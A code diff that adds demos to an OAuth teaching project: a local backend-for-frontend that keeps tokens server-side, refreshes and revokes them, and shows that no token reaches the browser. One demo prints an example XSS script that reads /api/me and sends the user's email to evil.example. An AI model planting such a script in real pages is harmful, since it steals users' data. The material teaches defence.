@@ -1,9 +1,318 @@
 // The demos of lesson 13 (browser apps: tokens in JavaScript vs a backend-for-frontend), listed in demo-names-browser-apps.ts.
 // Each runs the project's real code in-process and returns data; src/cli lays it out.
 
-import type { Demo } from './demo-parts.js';
+import { randomBytes } from 'node:crypto';
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { blank, exchange, opening, paragraph, recorded, withDemoWorld, type Demo, type DemoPart } from './demo-parts.js';
 import type { BROWSER_APP_DEMOS } from './demo-names-browser-apps.js';
+import type { AnyTokenResponse } from '../oauth/client-protocol.js';
+import type { RecordedExchange, UserAgent } from '../oauth/user-agent.js';
+import type { DemoWorld } from '../oauth/world.js';
 
-/** Every demo demo-names-browser-apps.ts lists, and no other. */
+type TokenFlows = typeof import('../oauth/token-flows.js');
+
+/** The name of the BFF's session cookie: a random id that names a session on the server, nothing more. */
+export const SESSION_COOKIE = 'swaad_session';
+
+/**
+ * The session cookie's attributes. Secure although the demo serves http://127.0.0.1: browsers that
+ * count loopback as a secure context (Chrome, Firefox) keep a Secure cookie set from it, and this is
+ * the cookie a real BFF on https sends. SameSite=Lax, not Strict: after the sign-in the provider (another
+ * site, in real life) sends the browser back here, and a Strict cookie would be left off that navigation.
+ */
+export const SESSION_COOKIE_ATTRIBUTES = 'HttpOnly; Secure; SameSite=Lax; Path=/';
+
+/** What the BFF keeps for a signed-in browser: every token, on the server. */
+interface BffSession {
+  accessToken: string;
+  refreshToken?: string;
+  idToken: string;
+  /** When the access token runs out, by Mock Google's clock. */
+  expiresAtMs: number;
+}
+
+/** A sign-in under way: what the callback must match, bound to the browser that started it. */
+interface PendingLogin {
+  nonce: string;
+  codeVerifier: string;
+  browserBinding: string;
+}
+
+export interface RunningBff {
+  url: string;
+  /** The server-side session map, for the demo to show that the tokens are there. */
+  sessions: ReadonlyMap<string, BffSession>;
+  /** Every byte the BFF wrote to its callers (only the browser calls it): status lines, headers, bodies. */
+  sentBytes(): string;
+  close(): Promise<void>;
+}
+
+const random = () => randomBytes(32).toString('base64url');
+const cookieOf = (request: IncomingMessage, name: string) => new RegExp(`(?:^|;\\s*)${name}=([^;]+)`).exec(request.headers.cookie ?? '')?.[1];
+
+/** The page Swaad's BFF serves: lesson 9's storage page, its data from /api/me; kept short so it reads on a narrow terminal. */
+export const BFF_PAGE_SCRIPT = [
+  'const token = localStorage.getItem(\'access_token\');',
+  'const cookies = JSON.stringify(document.cookie);',
+  'fetch(\'/api/me\').then((answer) => answer.json())',
+  '  .then((me) => document.body.textContent = \'Hello, \''
+  + ' + me.name',
+  '    + \' | localStorage: \' + token',
+  '    + \' | document.cookie: \' + cookies);',
+];
+const PAGE = `<!doctype html><title>Swaad</title><script>\n${BFF_PAGE_SCRIPT.join('\n')}\n</script>`;
+
+/**
+ * Starts Swaad's backend-for-frontend on 127.0.0.1: a confidential client (demo-app, with its
+ * secret) that runs the code flow on the server, keeps the tokens in a session map, gives the
+ * browser an HttpOnly cookie, and answers /api/me by calling userinfo with the access token
+ * (refreshing it first when it has run out). Its calls to Mock Google go through `backChannel`.
+ */
+export async function startBff(world: DemoWorld, flows: TokenFlows, backChannel: UserAgent): Promise<RunningBff> {
+  const [{ authorizationUrl, jsonBodyOf }, { newCodeVerifier, s256Challenge }, { discoverIssuer }, { verifyToken }] = await Promise.all([
+    import('../oauth/client-protocol.js'), import('../protocol/pkce.js'), import('../jwt/remote-keys.js'), import('../jwt/verify.js'),
+  ]);
+  const issuer = world.provider.issuer;
+  const { keys } = await discoverIssuer(issuer);
+  const sessions = new Map<string, BffSession>();
+  const pending = new Map<string, PendingLogin>();
+  let base = '';
+
+  const send = (response: ServerResponse, status: number, body: unknown, headers: Record<string, string | string[]> = {}) => {
+    response.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', ...headers });
+    response.end(JSON.stringify(body));
+  };
+  const keep = (tokens: AnyTokenResponse, previous?: BffSession): BffSession => ({
+    accessToken: tokens.access_token,
+    // Mock Google rotates refresh tokens: the new one replaces the old (lesson 12).
+    refreshToken: tokens.refresh_token ?? previous?.refreshToken,
+    idToken: tokens.id_token ?? previous?.idToken ?? '',
+    expiresAtMs: world.clock.nowMs() + tokens.expires_in * 1000,
+  });
+
+  async function login(response: ServerResponse): Promise<void> {
+    const state = random();
+    const login: PendingLogin = { nonce: random(), codeVerifier: newCodeVerifier(), browserBinding: random() };
+    pending.set(state, login);
+    const location = authorizationUrl(`${issuer}/authorize`, { clientId: 'demo-app', redirectUri: `${base}/callback`, scope: 'openid profile email offline_access', state, nonce: login.nonce, codeChallenge: s256Challenge(login.codeVerifier) });
+    // The state is bound to this browser too, so nobody can finish a sign-in in someone else's browser.
+    response.writeHead(302, { location, 'set-cookie': `swaad_login=${login.browserBinding}; HttpOnly; Secure; SameSite=Lax; Path=/callback; Max-Age=600`, 'cache-control': 'no-store' });
+    response.end();
+  }
+
+  async function callback(request: IncomingMessage, response: ServerResponse, url: URL): Promise<void> {
+    const state = url.searchParams.get('state') ?? '';
+    const login = pending.get(state);
+    pending.delete(state);
+    if (!login || cookieOf(request, 'swaad_login') !== login.browserBinding) return send(response, 400, { error: 'not a sign-in this browser started' });
+    if (url.searchParams.get('iss') !== issuer) return send(response, 400, { error: 'the answer names another issuer' });
+    const code = url.searchParams.get('code');
+    if (!code) return send(response, 400, { error: url.searchParams.get('error') ?? 'no code' });
+    const answer = await flows.tokenEndpoint(world, backChannel, { grant_type: 'authorization_code', code, redirect_uri: `${base}/callback`, code_verifier: login.codeVerifier });
+    if (answer.response.status !== 200) return send(response, 502, { error: 'the token endpoint refused the code' });
+    const tokens = jsonBodyOf<AnyTokenResponse>(answer);
+    // The ID token is checked as any client checks it (OIDC Core §3.1.3.7), the nonce included.
+    const verification = await verifyToken(tokens.id_token ?? '', { keys, algorithms: ['RS256'], tokenType: 'JWT', issuer, audience: ['demo-app'], clockTolerance: 0, now: Math.floor(world.clock.nowMs() / 1000) });
+    const claims = typeof verification.payload === 'object' ? verification.payload : {};
+    if (!verification.valid || claims.nonce !== login.nonce) return send(response, 502, { error: 'the ID token did not pass' });
+    const sessionId = random();
+    sessions.set(sessionId, keep(tokens));
+    // One cookie only: the login cookie runs out by itself, and its sign-in is gone from `pending` already.
+    response.writeHead(303, { location: '/', 'cache-control': 'no-store', 'set-cookie': `${SESSION_COOKIE}=${sessionId}; ${SESSION_COOKIE_ATTRIBUTES}` });
+    response.end();
+  }
+
+  async function me(request: IncomingMessage, response: ServerResponse): Promise<void> {
+    const sessionId = cookieOf(request, SESSION_COOKIE);
+    let session = sessionId === undefined ? undefined : sessions.get(sessionId);
+    if (!session) return send(response, 401, { error: 'not signed in' });
+    if (world.clock.nowMs() >= session.expiresAtMs && session.refreshToken) {
+      // The access token has run out: the BFF refreshes it, server to server; the browser only waits.
+      const refreshed = await flows.tokenEndpoint(world, backChannel, { grant_type: 'refresh_token', refresh_token: session.refreshToken });
+      if (refreshed.response.status !== 200) {
+        sessions.delete(sessionId!);
+        return send(response, 401, { error: 'signed out: the refresh was refused' });
+      }
+      session = keep(jsonBodyOf<AnyTokenResponse>(refreshed), session);
+      sessions.set(sessionId!, session);
+    }
+    const userinfo = await flows.callUserinfo(world, backChannel, session.accessToken);
+    if (userinfo.response.status !== 200) return send(response, 502, { error: 'userinfo refused the access token' });
+    const { name, email } = jsonBodyOf<{ name?: string; email?: string }>(userinfo);
+    send(response, 200, { name, email });
+  }
+
+  async function logout(request: IncomingMessage, response: ServerResponse): Promise<void> {
+    const sessionId = cookieOf(request, SESSION_COOKIE);
+    const session = sessionId === undefined ? undefined : sessions.get(sessionId);
+    if (session) {
+      sessions.delete(sessionId!);
+      // Forgetting the session is not enough: the refresh token would still work at Mock Google (RFC 7009).
+      if (session.refreshToken) await backChannel.request('POST', `${issuer}/revoke`, { form: { token: session.refreshToken, token_type_hint: 'refresh_token' }, headers: { authorization: `Basic ${Buffer.from('demo-app:demo-secret').toString('base64')}` } });
+    }
+    send(response, 200, { signed_out: true }, { 'set-cookie': `${SESSION_COOKIE}=; ${SESSION_COOKIE_ATTRIBUTES}; Max-Age=0` });
+  }
+
+  const server = createServer((request, response) => {
+    const url = new URL(request.url ?? '/', base);
+    const route = `${request.method} ${url.pathname}`;
+    const handled = route === 'GET /' ? (response.writeHead(200, { 'content-type': 'text/html', 'cache-control': 'no-store' }), response.end(PAGE), Promise.resolve())
+      : route === 'GET /login' ? login(response)
+        : route === 'GET /callback' ? callback(request, response, url)
+          : route === 'GET /api/me' ? me(request, response)
+            : route === 'POST /logout' ? logout(request, response)
+              : (send(response, 404, { error: 'not found' }), Promise.resolve());
+    handled.catch(() => {
+      if (!response.headersSent) send(response, 500, { error: 'the BFF failed' });
+    });
+  });
+  // What went down the wire, as written: the proof that no token reached the browser.
+  const sent: Buffer[] = [];
+  server.on('connection', (socket) => {
+    const write = socket.write.bind(socket) as (...args: unknown[]) => boolean;
+    socket.write = ((chunk: unknown, ...rest: unknown[]) => {
+      sent.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(String(chunk)));
+      return write(chunk, ...rest);
+    }) as typeof socket.write;
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return {
+    url: base,
+    sessions,
+    sentBytes: () => Buffer.concat(sent).toString('latin1'),
+    close: () => new Promise<void>((resolve) => {
+      server.close(() => resolve());
+      server.closeAllConnections();
+    }),
+  };
+}
+
+/** What a sign-in through the BFF left behind: the browser's exchanges with the BFF and Mock Google, and the BFF's own. */
+export interface BffSignIn {
+  bff: RunningBff;
+  browser: UserAgent;
+  backChannel: UserAgent;
+  /** The exchanges of the sign-in, in order: the browser's (to the BFF and Mock Google). */
+  browserSignIn: RecordedExchange[];
+  /** The callback's answer, which sets the session cookie. */
+  callback: RecordedExchange;
+}
+
+/** Asha signs in to Swaad through its BFF: the browser opens /login, signs in and allows at Mock Google, and comes back to /callback. */
+export async function signInThroughBff(world: DemoWorld, flows: TokenFlows): Promise<BffSignIn> {
+  const [{ signInAtProvider }, { DEFAULT_USERS }] = await Promise.all([import('../oauth/user-agent.js'), import('../provider/directory.js')]);
+  const browser = world.agent('the browser');
+  const backChannel = world.agent('Swaad\'s BFF (back channel)');
+  const bff = await startBff(world, flows, backChannel);
+  const start = await browser.request('GET', `${bff.url}/login`);
+  const asha = DEFAULT_USERS[0]!;
+  const signedIn = await signInAtProvider(browser, start.response.headers.location ?? '', { email: asha.email, password: asha.password, allow: true });
+  if (!signedIn.callbackUrl) throw new Error(`The sign-in at Mock Google did not come back (${signedIn.errorPage?.status ?? 'no answer'}).`);
+  const callback = await browser.request('GET', signedIn.callbackUrl);
+  return { bff, browser, backChannel, browserSignIn: [...browser.exchanges], callback };
+}
+
+/** Runs `use` with Mock Google, a sign-in through a fresh BFF, and closes both after. */
+async function withBffSignIn<T>(use: (run: BffSignIn, world: DemoWorld, flows: TokenFlows) => Promise<T>): Promise<T> {
+  return withDemoWorld(async (world, flows) => {
+    const run = await signInThroughBff(world, flows);
+    try {
+      return await use(run, world, flows);
+    } finally {
+      await run.bff.close();
+    }
+  });
+}
+
+/** A browser exchange in a table row: the request (a sign-in's long id shortened), where, the answer (a redirect says where to). */
+function browserRow(bffUrl: string, { request, response }: RecordedExchange): string[] {
+  const path = new URL(request.url).pathname.replace(/\/interaction\/[\w-]+\//, '/interaction/…/');
+  const at = request.url.startsWith(`${bffUrl}/`) ? 'Swaad' : 'Mock Google';
+  const location = response.headers.location;
+  const to = location === undefined ? '' : location.startsWith('/') || location.startsWith(bffUrl) ? ' to Swaad' : ' to Mock Google';
+  const cookie = response.headers['set-cookie'] === undefined ? '' : ', sets a cookie';
+  return [`${request.method} ${path}`, at, `${response.status}${to}${cookie}`];
+}
+
+/** The session cookie's Set-Cookie line (the callback sets that one alone), its random id shortened. */
+function sessionCookieLine(callback: RecordedExchange): string {
+  const line = callback.response.headers['set-cookie'] ?? '(none)';
+  return line.replace(/=([\w-]{12,});/, (_match, id: string) => `=${opening(id)};`);
+}
+
+/** A token's place in the browser's bytes: "no" when none of them holds it. */
+const reached = (bytes: string, token: string | undefined) => (token !== undefined && bytes.includes(token) ? 'YES' : 'no');
+
 export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: Demo } = {
+  'bff-page': async () => withBffSignIn(async (run) => {
+    const page = await run.browser.request('GET', `${run.bff.url}/`);
+    const apiMe = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const userinfo = run.backChannel.exchanges.at(-1)!;
+    const session = [...run.bff.sessions.values()][0]!;
+    const bytes = run.bff.sentBytes();
+    const answers = run.browser.exchanges.filter(({ request }) => request.url.startsWith(`${run.bff.url}/`)).length;
+    const cookie = sessionCookieLine(run.callback);
+    const name = apiMe.response.status === 200 ? String(JSON.parse(apiMe.response.body).name) : '(no answer)';
+    const documentCookie = /HttpOnly/i.test(cookie) ? '""' : JSON.stringify(cookie.split(';')[0]);
+    const parts: DemoPart[] = [
+      { kind: 'table', headings: ['the browser asks', 'at', 'answer'], rows: [...run.browserSignIn, page, apiMe].map((done) => browserRow(run.bff.url, done)) },
+      blank,
+      { kind: 'lines', lines: ['The cookie /callback set:', `  set-cookie: ${cookie}`] },
+      blank,
+      exchange('GET', '/api/me', `from the page: Cookie: ${SESSION_COOKIE}=… and nothing else`, { status: apiMe.response.status, body: JSON.parse(apiMe.response.body) }),
+      recorded('from the BFF: Authorization: Bearer <Asha\'s access token>', userinfo),
+      { kind: 'remark', lead: '', text: 'The page asked Swaad; Swaad\'s server added the access token and asked Mock Google\'s API.' },
+      blank,
+      { kind: 'table', headings: ['token', `in the ${answers} answers Swaad sent the browser?`], rows: [
+        ['access token', reached(bytes, session.accessToken)],
+        ['refresh token', reached(bytes, session.refreshToken)],
+        ['ID token', reached(bytes, session.idToken)],
+      ] },
+      paragraph('The demo searched every byte the BFF sent the browser, headers and bodies, for each token. All three stay in the BFF\'s session map, on the server.'),
+      blank,
+      { kind: 'code', heading: 'The page\'s script (lesson 9\'s, with a BFF):', lines: BFF_PAGE_SCRIPT },
+      blank,
+      paragraph(`In a browser this page shows: Hello, ${name} | localStorage: null | document.cookie: ${documentCookie}`),
+      paragraph('The demo plays the browser with a small HTTP client and does not run the script; a browser runs it as shown. Nothing put a token in localStorage, and document.cookie leaves out an HttpOnly cookie.'),
+    ];
+    return { parts, saved: {}, ok: apiMe.response.status === 200 && !bytes.includes(session.accessToken) };
+  }),
+
+  'bff-injected-script': async () => withBffSignIn(async (run, world) => {
+    const fromScript = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    // 16 minutes on, by Mock Google's clock: Asha's 15-minute access token has run out.
+    world.clock.skip(16 * 60);
+    const sentBefore = run.backChannel.exchanges.length;
+    const later = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const serverSide = run.backChannel.exchanges.slice(sentBefore);
+    const logout = await run.browser.request('POST', `${run.bff.url}/logout`);
+    const revoked = run.backChannel.exchanges.at(-1)!;
+    const afterLogout = await run.browser.request('GET', `${run.bff.url}/api/me`);
+    const json = (done: RecordedExchange) => ({ status: done.response.status, body: JSON.parse(done.response.body) as unknown });
+    const parts: DemoPart[] = [
+      { kind: 'code', heading: 'A script injected into the page (an XSS bug):', lines: [
+        'localStorage.getItem(\'access_token\');  // null',
+        'document.cookie;  // ""',
+        'fetch(\'/api/me\').then((answer) => answer.json())',
+        '  .then((me) => fetch(\'https://evil.example/?\' + me.email));',
+      ] },
+      blank,
+      exchange('GET', '/api/me', 'from the injected script: the browser adds the cookie', json(fromScript)),
+      { kind: 'remark', lead: '', text: 'Swaad cannot tell this request from the page\'s own: the script acts as Asha while the page is open.' },
+      blank,
+      paragraph('16 minutes later (the demo moves Mock Google\'s clock on): the access token has run out.'),
+      exchange('GET', '/api/me', 'from the page, the same cookie', json(later)),
+      ...serverSide.map((done) => recorded(done.request.url.endsWith('/token') ? 'from the BFF: grant_type=refresh_token, the refresh token, the client secret' : 'from the BFF: Bearer <the new access token>', done)),
+      { kind: 'remark', lead: '', text: 'The refresh went from Swaad\'s server to Mock Google and back. The browser saw one 200; the refresh tokens, old and new, never came near it.' },
+      blank,
+      exchange('POST', '/logout', 'Asha signs out', json(logout)),
+      recorded('from the BFF: the refresh token, to be revoked', revoked),
+      exchange('GET', '/api/me', 'the injected script tries again', json(afterLogout)),
+      blank,
+      paragraph('Once the session ends, the script has nothing left: it never held a token it could carry away and use from elsewhere. On lesson 9\'s page it could have copied the access token, and a refresh token kept there would have let it mint new ones for days.'),
+    ];
+    return { parts, saved: {}, ok: fromScript.response.status === 200 && later.response.status === 200 && afterLogout.response.status === 401 };
+  }),
 };
